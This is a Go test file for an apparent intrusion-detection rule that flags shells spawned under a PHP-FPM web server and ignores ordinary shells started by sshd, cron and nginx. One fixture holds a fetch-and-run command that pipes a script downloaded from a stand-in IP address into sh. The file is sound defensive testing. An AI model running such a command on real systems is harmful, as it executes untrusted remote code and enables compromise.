package detect

import (
	"testing"
	"time"

	"github.com/attackmap/attackmap/incident"
	"github.com/attackmap/attackmap/sensor/event"
)

func exec(parent, comm string, ts time.Time, argv ...string) event.Event {
	return event.Event{TS: ts, Kind: event.KindExec, Source: event.SourceEBPF, PID: 999, PPID: 998,
		Comm: comm, ParentComm: parent, Argv: argv, Path: "/bin/" + comm}
}

func TestSuspiciousExecRaisesForAShellUnderAWebServer(t *testing.T) {
	e := New(every())
	got := feed(t, e,
		exec("php-fpm8.2", "sh", t0, "sh", "-c", "curl http://198.51.100.9/x | sh"),
		exec("php-fpm8.2", "sh", at(time.Second), "sh", "-c", "id"))
	if len(got) != 2 || got[0].ID != got[1].ID {
		t.Fatalf("got %+v", got)
	}
	in := got[1]
	if in.Source != "suspicious_exec" || in.Severity != incident.High || in.IP != "0.0.0.0" ||
		in.Evidence.Parent != "php-fpm8.2" || in.Count != 2 {
		t.Fatalf("got %+v %+v", in, in.Evidence)
	}
}

func TestSuspiciousExecIgnoresOrdinaryShells(t *testing.T) {
	e := New(every())
	got := feed(t, e,
		exec("sshd", "bash", t0, "-bash"),
		exec("cron", "sh", t0, "sh", "-c", "run-parts /etc/cron.daily"),
		exec("nginx", "nginx", t0, "nginx", "-s", "reload"))
	if len(got) != 0 {
		t.Fatalf("got %+v", got)
	}
}
